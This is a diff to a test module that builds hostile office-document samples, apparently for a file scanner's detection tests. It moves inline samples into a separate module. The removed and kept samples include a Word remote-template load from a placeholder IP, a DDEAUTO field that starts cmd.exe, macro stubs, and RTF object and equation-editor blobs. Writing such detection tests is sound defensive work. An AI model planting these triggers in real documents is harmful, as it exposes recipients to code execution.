@@ -19,6 +19,7 @@ import pikepdf
 
 from bedside.files import media_types as types
 from tests.hostile import builders as make
+from tests.hostile import office
 
 MIB = 1024 * 1024
 
@@ -117,24 +118,11 @@ def _macros() -> Iterator[Hostile]:
     )
     old = make.doc(storages=["Macros", "_VBA_PROJECT_CUR"])
     yield Hostile("Word 97 with macros", "letter.doc", lambda: old, "macros")
-    remote = (
-        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
-        b'officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/a.dotm" '
-        b'TargetMode="External"/></Relationships>'
-    )
-    template = make.docx(more={"word/_rels/settings.xml.rels": remote})
-    yield Hostile("Word that loads a template", "a.docx", lambda: template, "active_content")
-    dde = make.docx(
-        document=b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
-        b'main"><w:p><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:p></w:document>'
-    )
-    yield Hostile("Word that starts a program (DDE)", "a.docx", lambda: dde, "infected")
     rtf = b"{\\rtf1 {\\object\\objocx{\\*\\objdata 0105000002000000}}}"
     yield Hostile("RTF with an object", "a.rtf", lambda: rtf, "active_content")
     equation = b"{\\rtf1 {\\object{\\*\\objdata 4571756174696f6e2e33}}}"
     yield Hostile("RTF for the equation editor", "a.doc", lambda: equation, "infected")
-    basic = make.odt(more={"Basic/script-lc.xml": b"<x/>"})
-    yield Hostile("OpenDocument with Basic", "a.odt", lambda: basic, "macros")
+    yield from (Hostile(*row) for row in office.documents())
 
 
 def _entity_bomb() -> bytes:
